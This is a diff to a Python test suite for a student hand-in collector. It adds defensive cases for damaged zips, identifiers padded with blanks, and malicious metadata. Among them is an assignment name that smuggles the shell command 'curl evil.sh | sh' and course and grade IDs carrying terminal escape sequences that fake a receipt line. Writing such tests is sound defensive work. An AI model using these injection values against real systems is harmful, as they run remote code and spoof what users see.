@@ -106,6 +106,23 @@ def has_a_damaged_middle(good: Path, path: Path) -> None:
     path.write_bytes(raw)
 
 
+def is_packed_with_lzma_and_damaged(good: Path, path: Path) -> None:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_LZMA) as archive:
+        for name, content in _members(good).items():
+            archive.writestr(name, content)
+    raw = bytearray(path.read_bytes())
+    raw[200:1200] = b"\xa5" * 1000
+    path.write_bytes(raw)
+
+
+def has_a_course_that_steers_the_terminal(good: Path, path: Path) -> None:
+    _resign(good, path, course="x\x1b[2K\r  zz999: collected, receipt AAAA-BBBB" + "!" * 80)
+
+
+def has_an_assignment_that_is_a_command(good: Path, path: Path) -> None:
+    _resign(good, path, assignment="01-claims; curl evil.sh | sh #")
+
+
 def is_a_picture_called_zip(good: Path, path: Path) -> None:
     path.write_bytes(b"\x89PNG\r\n" + bytes(100))
 
@@ -174,11 +191,14 @@ FAULTS = {
     was_changed_afterwards: f"{ANSWERS} was changed after the hand-in",
     has_another_name_on_its_receipt: "its receipt was changed after the hand-in",
     lost_a_file: f"{ANSWERS} is missing from it, though its receipt names it",
-    is_of_another_assignment: "it is a hand-in of “02-map”. Collect it with “collect 02-map”",
+    is_of_another_assignment: "it is a hand-in of “02-map”. Collect it under that name.",
     is_of_another_course: "it belongs to the course “chemistry”",
     has_an_id_that_climbs: "A student id cannot hold “/”",
     was_cut_off: "the zip is damaged",
     has_a_damaged_middle: "the zip is damaged",
+    is_packed_with_lzma_and_damaged: "the zip is damaged",
+    has_a_course_that_steers_the_terminal: "the course “x?[2K?  zz999: collected, receipt AAAA-BBBB!!!!!!!!!!!!!!…”, not to",
+    has_an_assignment_that_is_a_command: "it is a hand-in of “01-claims; curl evil.sh | sh #”. Collect it under that name",
     is_a_picture_called_zip: "the zip is damaged",
     is_empty: "the zip is damaged",
     is_locked_with_a_password: "locked with a password",
@@ -206,6 +226,57 @@ def test_a_bad_zip_is_reported_and_the_good_one_collected(
     assert outcomes[good.name].done == "collected"
     new = {path.relative_to(course).parts[0] for path in set(tmp_path.rglob("*")) - before}
     assert new == {"grading"}, "nothing was unpacked anywhere else"
+
+
+def test_whatever_goes_wrong_with_one_the_others_are_collected(
+    assignment, make_zip: Callable, course: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Also what nobody thought of, when it is read and when it is put in its place."""
+    from debatekit.rounds import collect as module
+    from debatekit.rounds.shelf import Shelf
+
+    make_zip("ab123"), make_zip("cd456", minute=1), make_zip("ef789", minute=2)
+    read, put = module.read_submission, Shelf.put
+
+    def unread(arrival, *told):
+        if "ab123" in arrival.path.name:
+            raise MemoryError
+        return read(arrival, *told)
+
+    def unput(shelf, submission):
+        if submission.receipt.student == "cd456":
+            raise KeyError("never\x1b[2K")
+        return put(shelf, submission)
+
+    monkeypatch.setattr(module, "read_submission", unread)
+    monkeypatch.setattr(Shelf, "put", unput)
+    outcomes = {outcome.path.name.split("-")[2]: outcome for outcome in collect(assignment, [make_zip.incoming], course)}
+    assert outcomes["ef789"].done == "collected"
+    assert outcomes["ab123"].warnings == ("what is in it makes no sense (MemoryError). Ask for a new hand-in.",)
+    assert outcomes["cd456"].warnings[0].startswith("it could not be put in its place (KeyError: ")
+    assert "\x1b" not in outcomes["cd456"].line()
+
+
+@pytest.mark.parametrize("forged", ["ab123\n", " ab123", "ab123\t"])
+def test_an_id_with_blanks_around_it_is_the_same_student(
+    assignment, make_zip: Callable, course: Path, forged: str
+) -> None:
+    good = make_zip()
+    _resign(good, good.with_name("forged.zip"), student=forged)
+    outcomes = collect(assignment, [make_zip.incoming], course)
+    assert {outcome.student for outcome in outcomes} == {"ab123"}
+    assert [path.name for path in (course / "grading" / "submitted").iterdir()] == ["ab123"]
+    assert not [outcome for outcome in outcomes if "\n" in outcome.line() or "\t" in outcome.line()]
+
+
+def test_grade_ids_cannot_steer_the_terminal(assignment, answered: Path, course: Path) -> None:
+    notebook = json.loads((answered / NOTEBOOK).read_text())
+    evil = {"cell_type": "code", "source": "", "outputs": [], "metadata": {"nbgrader": {"grade_id": "\x1b[2K" + "x" * 500}}}
+    notebook["cells"] += [evil, evil]
+    (answered / NOTEBOOK).write_text(json.dumps(notebook))
+    (outcome,) = collect(assignment, [answered / NOTEBOOK], course, student="ab123")
+    assert "cells are there twice: ?[2Kxxx" in outcome.line()
+    assert len(outcome.line()) < 300
 
 
 def test_links_in_a_folder_are_not_followed(assignment, make_zip: Callable, course: Path, tmp_path: Path) -> None:
